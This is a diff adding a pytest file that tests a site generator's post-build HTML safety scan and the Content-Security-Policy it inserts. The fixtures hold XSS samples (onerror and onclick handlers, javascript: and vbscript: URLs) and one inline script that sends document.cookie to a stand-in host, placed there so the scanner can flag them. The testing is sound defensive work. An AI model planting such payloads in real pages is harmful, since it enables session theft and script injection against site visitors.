@@ -1,0 +1,177 @@
+"""The post-build scan of the HTML (`python -m generator sitecheck`) and the Content-Security-Policy it adds."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from conftest import ROOT
+
+from generator.csp import add_csp, policy_for
+from generator.sitecheck import check_page, check_site, parse_page
+
+HANDLER = "inline handlers are not allowed (the Content-Security-Policy would block them)"
+ALLOWED = "the theme's bundle and search worker under assets/javascripts/, and assets/javascripts/referral.js"
+
+
+def page(body: str, *, head: str = "") -> str:
+    """A small page shaped like the theme's: the body starts on line 8."""
+    return ("<!doctype html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Fixture</title>\n"
+            f"{head}</head>\n<body>\n{body}\n</body>\n</html>\n")
+
+
+def sitecheck(site: Path, *extra: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-m", "generator", "sitecheck", str(site), *extra],
+                          cwd=ROOT, capture_output=True, text=True)
+
+
+def write(site: Path, files: dict[str, str]) -> Path:
+    for name, text in files.items():
+        (site / name).parent.mkdir(parents=True, exist_ok=True)
+        (site / name).write_text(text, encoding="utf-8")
+    return site
+
+
+def test_a_page_with_img_onerror_fails_the_scan(tmp_path: Path) -> None:
+    site = write(tmp_path / "site", {
+        "index.html": page("<p>Fine.</p>"),
+        "specialisms/index.html": page('<p>Chair <img src="chair.png" alt="" onerror="alert(1)"></p>'),
+    })
+    proc = sitecheck(site)
+    assert proc.returncode == 1
+    assert proc.stderr.splitlines() == [
+        f"{site}/specialisms/index.html:8:10: 'onerror' event-handler attribute on <img>; {HANDLER}",
+        "1 error(s), 0 warning(s)",
+        f"sitecheck: {site} has unsafe output; nothing changed",
+    ]
+
+
+def test_every_unsafe_construct_in_every_page_is_reported_at_once(tmp_path: Path) -> None:
+    site = write(tmp_path / "site", {
+        "a/index.html": page(
+            '<script src="https://cdn.example.org/analytics.js"></script>\n'
+            "<script>fetch('https://x.example/?c=' + document.cookie)</script>\n"
+            '<a href=" JavaScript:alert(1)">x</a> <button onclick="go()">Go</button>\n'
+            '<iframe src="https://x.example/"></iframe>\n'
+            '<script src="../elsewhere/referral.js"></script>\n'
+            '<script type="text/template" id="tpl">x</script>'
+        ),
+        "b/index.html": page('<svg><a xlink:href="vbscript:x">x</a></svg>', head='<base href="https://x.example/">\n'),
+    })
+    lines = sitecheck(site).stderr.splitlines()
+    digest = hashlib.sha256(b"fetch('https://x.example/?c=' + document.cookie)").hexdigest()
+    assert lines[:-2] == [
+        f"{site}/a/index.html:8:1: script 'https://cdn.example.org/analytics.js' is not on the allow-list ({ALLOWED})",
+        f"{site}/a/index.html:9:1: inline script is not on the allow-list: \"fetch('https://x.example/?c=' + "
+        "document.cookie)\"; if it is the theme's own after an upgrade, review it and add "
+        f"'{digest}' "
+        "to THEME_INLINE_SCRIPTS in generator/sitecheck.py",
+        f"{site}/a/index.html:10:1: 'javascript:' URL in the 'href' attribute of <a>",
+        f"{site}/a/index.html:10:38: 'onclick' event-handler attribute on <button>; {HANDLER}",
+        f"{site}/a/index.html:11:1: <iframe> is not allowed in the built site",
+        f"{site}/a/index.html:12:1: script '../elsewhere/referral.js' is not on the allow-list ({ALLOWED})",
+        f"{site}/a/index.html:13:1: script data block (type 'text/template', id 'tpl') is not one the theme writes",
+        f"{site}/b/index.html:6:1: <base> is not allowed in the built site",
+        f"{site}/b/index.html:9:6: 'vbscript:' URL in the 'xlink:href' attribute of <a>",
+    ]
+
+
+def test_allowed_scripts_pass(tmp_path: Path) -> None:
+    site = write(tmp_path / "site", {
+        "sitemap.xml": '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/'
+                       'sitemap/0.9"><url><loc>https://ot-practice.github.io/knowledge-base/</loc></url></urlset>\n',
+        "referral/flow/index.html": page(
+            '<script id="__config" type="application/json">{"base": "../.."}</script>\n'
+            '<script src="../../assets/javascripts/bundle.a5f9d56c.min.js"></script>\n'
+            '<script src="../../assets/javascripts/referral.js"></script>'
+        ),
+        "404.html": page('<script src="/knowledge-base/assets/javascripts/bundle.a5f9d56c.min.js"></script>'),
+    })
+    proc = sitecheck(site)
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout == "site OK: 2 pages checked\n"
+    assert check_site(site, base_path="/").errors[0].message.startswith(
+        "script '/knowledge-base/assets/javascripts/bundle.a5f9d56c.min.js' is not on the allow-list")
+
+
+def test_the_theme_inline_scripts_are_allowed_at_every_depth(built_site: Path) -> None:
+    pages = [built_site / "index.html", built_site / "referral/case-manager-referral/step/index.html"]
+    for path in pages:
+        parsed = check_page(path.read_text(encoding="utf-8"), path.relative_to(built_site).as_posix())
+        assert parsed.findings == [], path
+        assert len([s for s in parsed.scripts if s.src is None and s.executable]) == 3
+
+
+def test_the_shipped_site_passes_and_gets_a_policy_on_every_page(built_site: Path, tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    shutil.copytree(built_site, site)
+    proc = sitecheck(site, "--csp")
+    assert proc.returncode == 0, proc.stderr
+    pages = sorted(site.rglob("*.html"))
+    assert proc.stdout == f"site OK: {len(pages)} pages checked; Content-Security-Policy added to each\n"
+    for path in pages:
+        text = path.read_text(encoding="utf-8")
+        head = re.search(r"<head>\s*(<[^>]*>)", text)
+        assert head and head.group(1).startswith('<meta http-equiv="Content-Security-Policy" content="'), path
+        inline = [s.text for s in parse_page(text).scripts if s.src is None and s.executable]
+        for script in inline:
+            digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
+            assert f"'sha256-{digest}'" in head.group(1), path
+        # The character set must still be declared within the first 1024 bytes.
+        assert text.encode().find(b'<meta charset="utf-8">') < 1024 - len('<meta charset="utf-8">'), path
+    # Running it again changes nothing: the policy is replaced, not added twice.
+    before = {p: p.read_bytes() for p in pages}
+    assert sitecheck(site, "--csp").returncode == 0
+    assert {p: p.read_bytes() for p in pages} == before
+
+
+def test_an_inline_script_gets_its_hash() -> None:
+    # The example from the CSP Level 3 specification: this script's sha256 is qznLcsROx4G....
+    text = page("<script>alert('Hello, world.');</script>")
+    out = add_csp(text)
+    assert out == text.replace(
+        "<head>\n",
+        "<head>"
+        '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'; script-src \'self\' '
+        "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='; style-src 'self' 'unsafe-inline'; "
+        "img-src 'self' data:; font-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'self'; "
+        "form-action 'self'\">\n",
+    )
+
+
+def test_the_policy_hashes_only_what_runs_and_matches_what_the_browser_hashes() -> None:
+    text = page(
+        '<script src="assets/javascripts/referral.js"></script>\n'
+        '<script id="__config" type="application/json">{"a": 1}</script>\n'
+        "<script>b()\r\n</script><script type=module>b()\n</script>"
+    )
+    expected = "'sha256-" + base64.b64encode(hashlib.sha256(b"b()\n").digest()).decode() + "'"
+    assert policy_for(text).split("; ")[1] == f"script-src 'self' {expected}"
+
+
+def test_an_existing_policy_is_replaced() -> None:
+    once = add_csp(page("<p>x</p>", head='<meta http-equiv="content-security-policy" content="default-src *">\n'))
+    assert "default-src *" not in once
+    assert once.count("Content-Security-Policy") == 1
+    assert add_csp(once) == once
+
+
+def test_a_failing_scan_writes_no_policy(tmp_path: Path) -> None:
+    site = write(tmp_path / "site", {"index.html": page("<p>x</p>"), "bad.html": page("<p onmouseover=x()>x</p>")})
+    before = {p: p.read_bytes() for p in site.rglob("*")}
+    assert sitecheck(site, "--csp").returncode == 1
+    assert {p: p.read_bytes() for p in site.rglob("*")} == before
+
+
+@pytest.mark.parametrize("bad", ["<html><body>no head</body></html>"])
+def test_a_page_without_a_head_cannot_take_a_policy(tmp_path: Path, bad: str) -> None:
+    site = write(tmp_path / "site", {"index.html": page("<p>x</p>"), "fragment.html": bad})
+    proc = sitecheck(site, "--csp")
+    assert proc.returncode == 1
+    assert proc.stderr == f"{site}/fragment.html:1:1: no <head> to hold the Content-Security-Policy\n"
